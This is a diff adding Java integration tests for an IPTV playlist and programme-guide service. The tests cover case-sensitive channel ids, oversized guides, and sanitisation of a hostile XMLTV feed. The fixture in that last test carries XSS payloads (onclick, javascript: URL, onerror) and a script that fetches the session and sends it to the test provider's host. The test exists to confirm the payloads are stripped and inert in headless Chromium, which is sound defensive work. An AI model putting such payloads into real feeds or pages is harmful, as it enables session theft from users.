@@ -6,6 +6,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 import dev.lineup.support.Accounts;
 import dev.lineup.support.Api;
 import dev.lineup.support.Api.Reply;
+import dev.lineup.support.Debian;
 import dev.lineup.support.FakeProvider;
 import jakarta.json.Json;
 import jakarta.json.JsonArrayBuilder;
@@ -22,6 +23,7 @@ import java.util.zip.GZIPInputStream;
 import java.util.zip.GZIPOutputStream;
 import javax.xml.parsers.DocumentBuilderFactory;
 import org.junit.jupiter.api.AfterEach;
+import org.junit.jupiter.api.Assumptions;
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.Test;
 import org.w3c.dom.Document;
@@ -30,6 +32,8 @@ import org.w3c.dom.Node;
 
 /** Guides: fetched from the provider, kept per account, served per playlist with its channels. */
 class EpgIT {
+  static final String CHROMIUM = System.getenv().getOrDefault("CHROMIUM", "/usr/bin/chromium");
+
   /** The lineup: name and tvg-id (epg_channel_id). */
   static final String[][] LINEUP = {
     {"US: CNN", "cnn.us"}, {"US: ESPN", "espn.us"}, {"US: No Guide", ""}, {"UK: BBC One", "bbc1.uk"}
@@ -279,5 +283,148 @@ class EpgIT {
     Reply refresh = Api.post("/api/accounts/" + m3u + "/epg/refresh");
     assertEquals(200, refresh.status(), refresh.toString());
     assertEquals(4, refresh.json().getInt("channels"));
+  }
+
+  /** Serves these streams (name, tvg-id) instead of the lineup. */
+  void serveStreams(String[]... lineup) {
+    JsonArrayBuilder streams = Json.createArrayBuilder();
+    for (int i = 0; i < lineup.length; i++) {
+      streams.add(
+          Json.createObjectBuilder()
+              .add("stream_id", 400 + i)
+              .add("name", lineup[i][0])
+              .add("epg_channel_id", lineup[i][1])
+              .add("category_id", "1"));
+    }
+    provider.serve(
+        "[{\"category_id\":\"1\",\"category_name\":\"All\"}]", streams.build().toString());
+  }
+
+  @Test
+  void guideIdsThatDifferOnlyInCaseAreEachInThePlaylistsGuide() throws Exception {
+    serveStreams(
+        new String[] {"ITV 4", "itv4.uk"},
+        new String[] {"ITV4 HD", "ITV4.uk"},
+        new String[] {"Sky One", "Sky1.uk"},
+        new String[] {"Sky 1 (backup)", "sky1.uk"});
+    provider.serveGuide(
+        """
+        <tv>
+          <channel id="itv4.uk"><display-name>ITV4</display-name></channel>
+          <channel id="ITV4.uk"><display-name>ITV4 HD</display-name></channel>
+          <channel id="Sky1.uk"><display-name>Sky One</display-name></channel>
+          <channel id="sky1.uk"><display-name>Sky 1</display-name></channel>
+          <programme start="20261130060000 +0000" channel="ITV4.uk"><title>A</title></programme>
+          <programme start="20261130060000 +0000" channel="sky1.uk"><title>B</title></programme>
+        </tv>
+        """);
+    assertTrue(Api.post("/api/accounts/" + account + "/sync").json().getBoolean("success"));
+    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
+    String m3u = Accounts.playlistOf("Case", account).getJsonObject("urls").getString("m3u");
+    assertEquals(
+        List.of(
+            "channel:ITV4.uk",
+            "channel:Sky1.uk",
+            "channel:itv4.uk",
+            "channel:sky1.uk",
+            "programme:ITV4.uk",
+            "programme:sky1.uk"),
+        elements(xml(Api.get(m3u.replace("playlist.m3u", "epg.xml"), "*/*"))).stream()
+            .sorted()
+            .toList());
+  }
+
+  /** A guide whose programme carries HTML, a script and foreign attributes. */
+  static final String HOSTILE =
+      """
+      <?xml version="1.0" encoding="UTF-8"?>
+      <tv xmlns:h="http://www.w3.org/1999/xhtml">
+        <channel id="cnn.us" onclick="alert(1)"><display-name>CNN</display-name>
+          <icon src="javascript:alert(1)"/><h:img src="x" onerror="alert(2)"/></channel>
+        <programme start="20261126060000 +0000" stop="20261126070000 +0000" channel="cnn.us">
+          <title lang="en">News</title>
+          <desc>Tonight<script xmlns="http://www.w3.org/1999/xhtml">
+            document.documentElement.setAttribute('data-pwned', 'yes');
+            fetch('/api/session').then(r => r.text()).then(t =>
+              fetch('%s/pwned?' + encodeURIComponent(t)));
+          </script></desc>
+        </programme>
+      </tv>
+      """;
+
+  @Test
+  void aGuideKeepsOnlyXmltvAndPlayerAnswersAreInertInABrowser() throws Exception {
+    provider.serveGuide(HOSTILE.formatted(provider.url()));
+    assertTrue(Api.post("/api/accounts/" + account + "/sync").json().getBoolean("success"));
+    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
+    String m3u = Accounts.playlistOf("Inert", account).getJsonObject("urls").getString("m3u");
+    String epg = m3u.replace("playlist.m3u", "epg.xml");
+    Reply guide = Api.get(epg, "*/*");
+    assertEquals(200, guide.status(), guide.toString());
+    for (String gone : List.of("script", "fetch", "onclick", "onerror", "javascript", "xmlns")) {
+      assertTrue(!guide.body().contains(gone), gone + " in " + guide.body());
+    }
+    assertTrue(guide.body().contains("<desc>Tonight</desc>"), guide.body());
+    for (String path : List.of(epg, m3u, "/p/unknown-token-0123456789/epg.xml")) {
+      Reply answer = Api.get(path, "*/*");
+      assertEquals("default-src 'none'; sandbox", answer.header("Content-Security-Policy"), path);
+      assertEquals("nosniff", answer.header("X-Content-Type-Options"), path);
+      assertEquals("private, no-cache", answer.header("Cache-Control"), path);
+    }
+
+    Assumptions.assumeTrue(
+        Files.isExecutable(Path.of(CHROMIUM)) || Debian.ensure("chromium", "chromium"),
+        "no Chromium at " + CHROMIUM + " (apt-get install chromium, or set CHROMIUM)");
+    int before = provider.requestCount();
+    Path profile = Files.createTempDirectory("chromium");
+    try {
+      dev.lineup.support.Node.Result dom =
+          dev.lineup.support.Node.run(
+              Path.of("."),
+              List.of(
+                  CHROMIUM,
+                  "--headless",
+                  "--no-sandbox",
+                  "--disable-gpu",
+                  "--disable-background-networking",
+                  "--no-first-run",
+                  "--user-data-dir=" + profile,
+                  "--virtual-time-budget=3000",
+                  "--dump-dom",
+                  Api.BASE_URL + epg),
+              java.util.Map.of(),
+              60);
+      assertEquals(0, dom.status(), dom.output());
+      assertTrue(dom.output().contains("Tonight"), "Chromium opened the guide: " + dom.output());
+      assertTrue(!dom.output().contains("data-pwned"), dom.output());
+      assertEquals(before, provider.requestCount(), "the guide's script called out");
+    } finally {
+      try (var files = Files.walk(profile)) {
+        files.sorted(java.util.Comparator.reverseOrder()).forEach(p -> p.toFile().delete());
+      }
+    }
+  }
+
+  @Test
+  void anOversizedProgrammeFailsTheRefreshWhichIsRecordedAndKeepsThePreviousGuide()
+      throws Exception {
+    provider.serveGuide(GUIDE);
+    syncAndFetch();
+    provider.serveGuide(
+        GUIDE.replace("Höhepunkte &lt;live&gt;", "x".repeat(2 << 20))); // a 2 MiB description
+    Reply big = Api.post("/api/accounts/" + account + "/epg/refresh");
+    assertEquals(502, big.status(), big.toString());
+    assertTrue(big.body().contains("larger than 1024 KiB"), big.body());
+    JsonObject status = Api.get("/api/accounts/" + account + "/epg").json();
+    assertTrue(status.getBoolean("available"), status.toString());
+    assertEquals(5, status.getInt("programmes"), status.toString());
+    assertTrue(status.getString("last_error").contains("larger than"), status.toString());
+    assertEquals(7, elements(xml(Api.get("/epg/" + account + ".xml", "*/*"))).size());
+
+    provider.serveGuide(GUIDE);
+    assertEquals(200, Api.post("/api/accounts/" + account + "/epg/refresh").status());
+    assertTrue(
+        !Api.get("/api/accounts/" + account + "/epg").json().containsKey("last_error"),
+        "a stored guide clears the failure");
   }
 }
